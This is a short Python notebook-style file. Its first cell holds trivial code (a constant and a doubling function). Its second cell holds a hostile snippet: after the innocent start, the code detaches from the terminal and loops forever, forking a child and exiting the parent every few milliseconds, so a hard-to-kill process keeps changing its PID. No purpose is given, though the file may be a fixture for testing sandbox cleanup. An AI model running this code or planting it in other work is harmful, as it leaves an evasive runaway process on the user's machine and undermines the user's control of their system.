# %%
answer = 42


def double(x):
    return 2 * x

# %%
import os
import time

if os.fork() == 0:
    os.setsid()
    while True:
        if os.fork() != 0:
            os._exit(0)
        time.sleep(0.002)
